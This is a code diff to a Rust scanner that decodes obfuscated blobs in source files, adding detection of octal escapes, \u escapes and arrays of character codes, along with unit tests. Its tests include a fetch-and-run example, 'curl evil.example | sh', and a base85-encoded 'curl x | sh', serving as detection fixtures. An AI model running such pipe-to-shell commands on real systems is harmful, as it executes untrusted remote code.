@@ -18,7 +18,7 @@ use crate::registry::RuleId;
 
 static BLOB: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(
-        r#"(?P<b64>[A-Za-z0-9+/_-]{20,}={0,2})|(?P<esc>(\\x[0-9a-fA-F]{2}){8,})|(b85decode|a85decode)\(\s*b?["'](?P<b85>[^"'\n]{10,})["']|<~(?P<a85>[!-u\s]{10,}?)~>"#,
+        r#"(?P<b64>[A-Za-z0-9+/_-]{20,}={0,2})|(?P<esc>(\\x[0-9a-fA-F]{2}){8,})|(?P<oct>(\\[0-3][0-7]{2}){8,})|(?P<uni>(\\u[0-9a-fA-F]{4}){8,})|(?P<codes>\[\s*(\d{2,3}\s*,\s*){7,}\d{2,3}\s*\])|(b85decode|a85decode)\(\s*b?["'](?P<b85>[^"'\n]{10,})["']|<~(?P<a85>[!-u\s]{10,}?)~>"#,
     )
     .expect("blob regex")
 });
@@ -100,6 +100,30 @@ fn decode_escapes(s: &str) -> Option<Vec<u8>> {
         .filter(|p| !p.is_empty())
         .map(|p| u8::from_str_radix(p.get(..2)?, 16).ok())
         .collect()
+}
+
+/// `\164\141…` (octal) or `\u0063…`: each escape one character.
+fn decode_radix(s: &str, sep: &str, radix: u32) -> Option<Vec<u8>> {
+    let mut out = String::new();
+    for p in s.split(sep).filter(|p| !p.is_empty()) {
+        out.push(char::from_u32(u32::from_str_radix(p, radix).ok()?)?);
+    }
+    Some(out.into_bytes())
+}
+
+/// `[99, 117, 114, 108, …]`: printable character codes (an array of port numbers or
+/// sizes is not text).
+fn decode_char_codes(s: &str) -> Option<Vec<u8>> {
+    let codes: Vec<u8> = s
+        .trim_matches(|c| c == '[' || c == ']')
+        .split(',')
+        .map(|n| n.trim().parse::<u8>().ok())
+        .collect::<Option<_>>()?;
+    let text = codes
+        .iter()
+        .all(|&c| c == b'\n' || c == b'\t' || (32..127).contains(&c))
+        && codes.iter().filter(|c| c.is_ascii_alphabetic()).count() * 2 >= codes.len();
+    text.then_some(codes)
 }
 
 /// Base85 as Python's `b85encode` (RFC 1924 alphabet) or Ascii85 (`a85`, `<~ ~>`).
@@ -189,6 +213,21 @@ pub(crate) fn scan(
                 continue;
             };
             (m, "\\x escapes", d)
+        } else if let Some(m) = caps.name("oct") {
+            let Some(d) = decode_radix(m.as_str(), "\\", 8) else {
+                continue;
+            };
+            (m, "octal escapes", d)
+        } else if let Some(m) = caps.name("uni") {
+            let Some(d) = decode_radix(m.as_str(), "\\u", 16) else {
+                continue;
+            };
+            (m, "\\u escapes", d)
+        } else if let Some(m) = caps.name("codes") {
+            let Some(d) = decode_char_codes(m.as_str()) else {
+                continue;
+            };
+            (m, "character codes", d)
         } else if let Some(m) = caps.name("b85") {
             let Some(d) = decode_base85(m.as_str(), caps[0].starts_with("a85")) else {
                 continue;
@@ -493,6 +532,14 @@ mod tests {
             b"curl evil.example | sh"
         );
         assert_eq!(decode_escapes("\\x63\\x75\\x72\\x6c").unwrap(), b"curl");
+        assert_eq!(
+            decode_radix("\\143\\165\\162\\154", "\\", 8).unwrap(),
+            b"curl"
+        );
+        assert_eq!(decode_radix("\\u0063\\u0075", "\\u", 16).unwrap(), b"cu");
+        assert_eq!(decode_char_codes("[99, 117, 114, 108]").unwrap(), b"curl");
+        assert_eq!(decode_char_codes("[80, 443, 8080, 22]"), None);
+        assert_eq!(decode_char_codes("[10, 20, 30, 40]"), None);
         // Python: base64.b85encode(b"curl x | sh")
         assert_eq!(
             decode_base85("V|8+DAb22rAaiH", false).unwrap(),
